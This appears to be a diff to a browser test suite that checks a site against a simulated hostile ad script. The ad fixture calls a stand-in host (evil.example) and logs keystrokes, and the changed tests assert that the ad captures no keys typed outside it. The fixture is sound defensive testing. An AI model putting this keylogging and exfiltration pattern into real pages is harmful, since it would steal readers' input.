@@ -111,7 +111,7 @@ const HOSTILE = `
   fetch('https://evil.example/').then(() => (loot.sent = 'sent'), () => (loot.sent = 'refused'))
   addEventListener('message', (event) => loot.messages.push(event.data))
   const input = document.body.appendChild(document.createElement('input'))
-  addEventListener('keydown', (event) => loot.keys.push(event.key), true)
+  addEventListener('keydown', (event) => { loot.keys.push(event.key); console.log('stolen key', event.key) }, true)
   setInterval(() => { input.focus(); window.focus() }, 5)
 `
 
@@ -120,8 +120,8 @@ interface Loot {
   [name: string]: unknown
 }
 
-/** A reader's browser that records requests to other hosts; the network's script is `script`. */
-async function openReader(script: string): Promise<{ context: BrowserContext; page: Page; asked: string[] }> {
+/** A reader's browser that records requests to other hosts; the network's script is `script`, and `stolen` are the keys that it reports. */
+async function openReader(script: string): Promise<{ context: BrowserContext; page: Page; asked: string[]; stolen: string[] }> {
   const context = await browser.newContext({ baseURL: ORIGIN, locale: 'ja-JP', viewport: { width: 1280, height: 900 } })
   onTestFinished(() => context.close())
   const asked: string[] = []
@@ -131,7 +131,14 @@ async function openReader(script: string): Promise<{ context: BrowserContext; pa
     if (url === SCRIPT) return route.fulfill({ contentType: 'text/javascript', body: script })
     return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>x</title>' })
   })
-  return { context, page: await context.newPage(), asked }
+  const page = await context.newPage()
+  const stolen: string[] = []
+  // Logged, since a frame that is removed can no longer be asked.
+  page.on('console', (message) => {
+    const key = /^stolen key (.*)$/.exec(message.text())?.[1]
+    if (key !== undefined) stolen.push(key)
+  })
+  return { context, page, asked, stolen }
 }
 
 /** Gives a browser the state after a login. Returns the token. */
@@ -205,8 +212,8 @@ describe('a hostile ad script, in Chromium', () => {
     expect(asked.slice(before).filter((url) => url !== SCRIPT)).toEqual([])
   })
 
-  it('a hostile ad is removed while a reader types into a dialog, although it grabs the focus', async () => {
-    const { context, page } = await openReader(HOSTILE)
+  it('a hostile ad gets no key that a reader types into a dialog, and is removed, although it grabs the focus', async () => {
+    const { context, page, stolen } = await openReader(HOSTILE)
     const nameless = await loginAs(test, await makeMember(test.db, { last_name: '', first_name: '' }))
     await logIn(context, page, nameless)
     await page.goto('/article/open/')
@@ -220,16 +227,21 @@ describe('a hostile ad script, in Chromium', () => {
     await field.click()
     await page.keyboard.type('gawa', { delay: 20 })
     expect([await field.inputValue(), page.frames().length, frame.isDetached()]).toEqual(['hidakagawa', 1, true])
+    expect(stolen).toEqual([])
   })
 
-  it('a hostile ad is removed while a reader types into the search field', async () => {
-    const { page } = await openReader(HOSTILE)
+  it('a hostile ad gets the keys typed into itself, but none typed into the search field, and is removed then', async () => {
+    const { page, stolen } = await openReader(HOSTILE)
     await page.goto('/article/open/')
     const frame = await adOf(page)
+    await frame.locator('input').click()
+    await page.keyboard.press('k')
+    await expect.poll(() => stolen).toEqual(['k'])
     const search = page.getByRole('searchbox').first()
     await search.click()
     await page.keyboard.type('orimono', { delay: 20 })
     expect([await search.inputValue(), frame.isDetached()]).toEqual(['orimono', true])
+    expect(stolen).toEqual(['k'])
   })
 })
 
